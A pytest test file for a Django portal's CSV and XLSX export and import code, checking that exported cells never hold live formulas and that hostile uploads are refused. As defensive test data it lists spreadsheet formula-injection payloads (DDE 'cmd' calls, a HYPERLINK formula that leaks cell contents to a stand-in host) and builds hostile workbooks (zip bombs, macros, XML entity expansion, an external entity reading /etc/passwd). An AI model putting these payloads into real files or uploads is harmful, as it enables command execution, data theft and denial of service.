"""Spreadsheets out and in: no live formula leaves, nothing hostile is read, Thai and numbers stay whole."""

import csv
import io
import time
import tracemalloc
import zipfile
from collections.abc import Callable
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
import tablib
from django.utils import translation

from mou_portal.exchange import (
    MAX_ROWS,
    SafeCSV,
    SafeXLSX,
    WorkbookRefused,
    check_workbook,
    csv_response,
    xlsx_bytes,
    xlsx_response,
)

MIB = 1024 * 1024

#: What spreadsheets take for a formula, in every disguise that is known to us.
FORMULAS = [
    "=1+1",
    "==1+1",
    '=HYPERLINK("http://example.org/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '"=1+1"',
    "“=1+1”",
]
#: What must come out as it went in.
HARMLESS = ["การนำความรู้ไปปฏิบัติ", "น้ำท่วม 50%", "ก-ข", "a=b", "1,234.50", "’ok", "เลขที่ กบ 51001/123", "x\n=y"]

WRITERS: dict[str, Callable[[list[Any]], list[Any]]] = {}


def writer(read: Callable[[list[Any]], list[Any]]) -> Callable[[list[Any]], list[Any]]:
    WRITERS[read.__name__] = read
    return read


@writer
def csv_of_a_list(cells: list[Any]) -> list[Any]:
    answer = csv_response("rows", ["head"], [[cell] for cell in cells])
    text = b"".join(answer).decode("utf-8")
    assert text.startswith("\ufeff")
    return [row[0] if row else "" for row in csv.reader(io.StringIO(text[1:], newline=""))][1:]


@writer
def csv_of_the_admin_site(cells: list[Any]) -> list[Any]:
    text = SafeCSV().export_data(tablib.Dataset(*[[cell] for cell in cells], headers=["head"]))
    assert text.startswith("\ufeff")
    return [row[0] if row else "" for row in csv.reader(io.StringIO(text[1:], newline=""))][1:]


@writer
def xlsx_of_a_list(cells: list[Any]) -> list[Any]:
    return _sheet(xlsx_bytes(["head"], [[cell] for cell in cells]))


@writer
def xlsx_of_the_admin_site(cells: list[Any]) -> list[Any]:
    return _sheet(SafeXLSX().export_data(tablib.Dataset(*[[cell] for cell in cells], headers=["head"])))


def _sheet(content: bytes) -> list[Any]:
    rows = list(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2))
    assert all(cell.data_type != "f" for row in rows for cell in row)
    return [row[0].value for row in rows]


@pytest.mark.parametrize("name", WRITERS)
def test_no_live_formula_leaves(name: str) -> None:
    for told, cell in zip(FORMULAS, WRITERS[name](list(FORMULAS)), strict=True):
        assert str(cell).startswith("'"), told


@pytest.mark.parametrize("name", WRITERS)
def test_words_leave_as_they_are(name: str) -> None:
    assert WRITERS[name](list(HARMLESS)) == HARMLESS


@pytest.mark.parametrize("name", WRITERS)
def test_numbers_stay_numbers(name: str) -> None:
    amounts = [Decimal("-5.00"), Decimal("1234.50"), -3, 0]
    assert [Decimal(str(cell)) for cell in WRITERS[name](list(amounts))] == amounts


@pytest.mark.parametrize("name", [name for name in WRITERS if name.startswith("xlsx")])
def test_days_are_days_and_shown_in_the_readers_era(name: str) -> None:
    with translation.override("th"):
        assert WRITERS[name]([date(2019, 6, 17)]) == [datetime(2019, 6, 17)]  # noqa: DTZ001 — a cell has no zone
        content = xlsx_bytes(["head"], [[date(2019, 6, 17)]])
    assert openpyxl.load_workbook(io.BytesIO(content)).active["A2"].number_format.startswith("[$-107041E]")


def test_a_moment_is_told_in_thailands_time() -> None:
    moment = datetime(2020, 2, 3, 20, 30, tzinfo=UTC)
    assert csv_of_a_list([moment, None]) == ["2020-02-04 03:30+07:00", ""]
    assert xlsx_of_a_list([moment])[0].hour == 3


def test_a_heading_cannot_be_a_formula() -> None:
    assert openpyxl.load_workbook(io.BytesIO(xlsx_bytes(["=1+1"], []))).active["A1"].value == "'=1+1"
    assert "'=1+1" in b"".join(csv_response("rows", ["=1+1"], [])).decode()


def test_files_come_as_downloads() -> None:
    for answer in (csv_response("rows", ["head"], []), xlsx_response("rows", ["head"], [])):
        assert answer["Content-Disposition"].startswith('attachment; filename="rows.')


# --- reading --------------------------------------------------------------------------------


def workbook(*rows: list[Any]) -> bytes:
    out, book = io.BytesIO(), openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    book.save(out)
    return out.getvalue()


def zipped(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return out.getvalue()


def with_sheet(change: Callable[[bytes], bytes]) -> bytes:
    """A workbook whose sheet was changed after it was written."""
    book, out = io.BytesIO(workbook(["code"])), io.BytesIO()
    with zipfile.ZipFile(book) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = old.read(name)
            new.writestr(name, change(content) if name == "xl/worksheets/sheet1.xml" else content)
    return out.getvalue()


def tall() -> bytes:
    """A workbook of a few kilobytes whose one cell stands in the last row there can be."""
    last = b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    return with_sheet(lambda sheet: sheet.replace(b"</sheetData>", last))


HOSTILE: dict[str, Callable[[], bytes]] = {
    "no workbook": lambda: b"code,phone\n",
    "empty": lambda: b"",
    "half": lambda: workbook(["code"])[:-40],
    "another zip": lambda: zipped(readme_dot_txt=b"x"),
    "unpacks to 60 MiB": lambda: zipped(xl__workbook_dot_xml=b"<x/>", xl__big_dot_xml=b" " * (60 * MIB)),
    "201 parts": lambda: zipped(xl__workbook_dot_xml=b"<x/>", **{f"part{number}": b"" for number in range(201)}),
    "macros": lambda: zipped(xl__workbook_dot_xml=b"<x/>", xl__vbaProject_dot_bin=b"x"),
    "active controls": lambda: zipped(xl__workbook_dot_xml=b"<x/>", xl__activeX__activeX1_dot_bin=b"x"),
    "entities": lambda: zipped(xl__workbook_dot_xml=b'<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'),
    "entities after blanks": lambda: zipped(xl__workbook_dot_xml=b" " * 20_000 + b'<!DOCTYPE x [<!ENTITY a "a">]><x/>'),
    "outside entity": lambda: zipped(xl__workbook_dot_xml=b'<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'),
    "entities in UTF-16": lambda: zipped(xl__workbook_dot_xml='<!DOCTYPE x [<!ENTITY a "a">]><x/>'.encode("utf-16")),
    "61 columns": lambda: workbook([f"c{number}" for number in range(61)]),
    "10,001 rows": lambda: workbook(["code"], *([number] for number in range(MAX_ROWS))),
    "one cell in the last row": tall,
    "a sheet cut off": lambda: with_sheet(lambda sheet: sheet[: len(sheet) // 2]),
    "a sheet of nonsense": lambda: with_sheet(lambda sheet: sheet.replace(b'r="A1"', b'r="!!"')),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_workbook_is_refused_quickly_and_in_little_memory(name: str) -> None:
    content = HOSTILE[name]()
    tracemalloc.start()
    began = time.process_time()
    with pytest.raises(WorkbookRefused) as refused:
        SafeXLSX().create_dataset(content)
    seconds, (_now, peak) = time.process_time() - began, tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert str(refused.value)
    assert seconds < (8 if name == "10,001 rows" else 2)  # tracing memory makes it several times slower
    assert peak < 100 * MIB


def test_a_good_workbook_is_read_whole() -> None:
    dataset = SafeXLSX().create_dataset(workbook(["code", "phone", None], ["krabi-pao", "075 611 123"], [None, None]))
    assert dataset.headers == ["code", "phone"]
    assert list(dataset) == [("krabi-pao", "075 611 123")]
    check_workbook(workbook(["code"]))


def test_the_largest_workbook_that_is_allowed_is_read() -> None:
    dataset = SafeXLSX().create_dataset(workbook(["code"], *([number] for number in range(MAX_ROWS - 1))))
    assert dataset.height == MAX_ROWS - 1


def test_an_empty_workbook_has_no_rows() -> None:
    assert SafeXLSX().create_dataset(workbook()).height == 0


@pytest.mark.parametrize(
    "content",
    ["code\n" * (MAX_ROWS + 1), ",".join(f"c{number}" for number in range(61)) + "\n" + "," * 60 + "\n"],
    ids=["too many rows", "too many columns"],
)
def test_a_csv_beyond_the_limits_is_refused(content: str) -> None:
    with pytest.raises(WorkbookRefused):
        SafeCSV().create_dataset(content)


@pytest.mark.parametrize("row", ["1,2,3", "x" * 200_000], ids=["a row longer than the head", "a cell without end"])
def test_a_torn_csv_is_refused(row: str) -> None:
    with pytest.raises(WorkbookRefused, match="CSV"):
        SafeCSV().create_dataset(f"code,phone\nkrabi,075\n{row}\n")


def test_a_csv_that_is_not_utf_8_is_refused_and_a_mark_at_its_head_is_not() -> None:
    with pytest.raises(WorkbookRefused, match="UTF-8"):
        SafeCSV().create_dataset("รหัส\n".encode("cp874"))
    assert SafeCSV().create_dataset("\ufeffรหัส\nกระบี่\n".encode()).headers == ["รหัส"]
